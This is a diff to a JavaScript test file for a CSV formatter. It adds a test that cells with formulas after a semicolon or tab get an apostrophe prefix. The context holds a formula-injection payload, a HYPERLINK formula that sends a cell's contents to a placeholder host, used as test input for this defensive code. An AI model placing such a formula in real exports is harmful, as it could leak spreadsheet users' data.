@@ -22,6 +22,10 @@ test('no field is a formula', () => {
 	assert.equal(formatCsv([['=HYPERLINK("http://a.example?"&A1)']]), `"'=HYPERLINK(""http://a.example?""&A1)"\r\n`)
 })
 
+test('a semicolon begins no cell, and no formula', () => {
+	assert.equal(formatCsv([['a;b', 'a;=1+1', 'a\t@SUM(A1)', 'a=b']]), `"a;b","a;'=1+1","a\t'@SUM(A1)",a=b\r\n`)
+})
+
 test('whatever the fields are, a reader of the standard gets them back, formulas after an apostrophe', () => {
 	const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', '=', ' ', '1', "'") })
 	fc.assert(
